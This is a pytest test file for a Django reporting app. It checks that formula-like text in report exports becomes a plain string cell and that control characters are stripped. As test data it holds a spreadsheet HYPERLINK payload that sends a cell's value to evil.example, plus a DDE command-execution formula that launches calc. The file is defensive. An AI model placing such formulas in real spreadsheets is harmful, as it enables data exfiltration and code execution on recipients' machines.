"""Issue 10 for report exports: text in a report (a body's name, a narrative paragraph) that looks like a formula
is a string cell in the XLSX, and stored control characters never break the XLSX, DOCX, HTML or PDF."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from gongkai.organisations.models import Organisation
from gongkai.reports.build import build_report
from gongkai.reports.document import freeze
from gongkai.reports.exports import render_frozen
from tests.conftest import Tree

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def frozen(tree: Tree) -> dict[str, Any]:
    Organisation.objects.filter(pk=tree.city.pk).update(name=HOSTILE + "测试\x01\x0b市")
    tree.city.refresh_from_db()
    data = freeze(build_report(tree.city, 2024, "2021"), charts=False)
    data["sections"][0]["paragraphs"][0] = "=cmd|' /C calc'!A0 本年度\x02\x1f公开工作"
    return data


def test_xlsx_has_no_formula_and_no_control_character(frozen: dict[str, Any]) -> None:
    book = load_workbook(io.BytesIO(render_frozen(frozen, ".xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title = book.worksheets[0]["A1"]
    assert title.data_type == "s" and title.value.startswith(HOSTILE + "测试市")


def test_docx_and_html_carry_the_text_without_control_characters(frozen: dict[str, Any]) -> None:
    from docx import Document

    document = Document(io.BytesIO(render_frozen(frozen, ".docx")))
    text = "\n".join(p.text for p in document.paragraphs)
    assert HOSTILE + "测试市" in text and "本年度公开工作" in text
    html = render_frozen(frozen, ".html").decode()
    assert "本年度公开工作" in html and "\x02" not in html


def test_pdf_renders(frozen: dict[str, Any]) -> None:
    assert render_frozen(frozen, ".pdf").startswith(b"%PDF-")
